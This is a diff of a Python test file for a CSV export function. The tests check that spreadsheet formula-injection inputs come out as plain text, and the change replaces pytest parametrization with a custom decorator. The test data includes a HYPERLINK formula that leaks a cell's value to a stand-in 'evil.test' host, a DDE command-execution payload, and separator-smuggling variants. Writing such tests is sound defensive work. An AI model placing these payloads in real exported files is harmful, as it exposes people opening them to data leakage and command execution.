@@ -7,16 +7,14 @@ import io
 import re
 from pathlib import Path
 
-import pytest
-
 from dmlcore.storage.csv_text import as_csv
+from tests.members import in_one_case
 
 ROOT = Path(__file__).parents[2]
 
 
-@pytest.mark.parametrize(
-    "name",
-    [
+@in_one_case(
+    name=[
         '=HYPERLINK("http://evil.test?x="&A1,"click")',
         "+1+cmd|' /C calc'!A0",
         "-2+3",
@@ -28,7 +26,7 @@ ROOT = Path(__file__).parents[2]
         "\uff1d1+1",
         "-",
         "=",
-    ],
+    ]
 )
 def test_formulas_are_text(name: str) -> None:
     text = as_csv([["class", "x"], [name, 1.5]])
@@ -38,7 +36,7 @@ def test_formulas_are_text(name: str) -> None:
     assert text.count('"') % 2 == 0
 
 
-@pytest.mark.parametrize("name", ["x;=1+1", 'x;"=1+1', "x|+1", "x\t=1", "x;=1+1;y", "x;; =1", "x\n=1+1", "x;\n@SUM(1)"])
+@in_one_case(name=["x;=1+1", 'x;"=1+1', "x|+1", "x\t=1", "x;=1+1;y", "x;; =1", "x\n=1+1", "x;\n@SUM(1)"])
 def test_no_other_separator_makes_a_formula(name: str) -> None:
     text = as_csv([["class", "x", "class"], [name, 1.5, name]])
     for separator in ",;|\t":
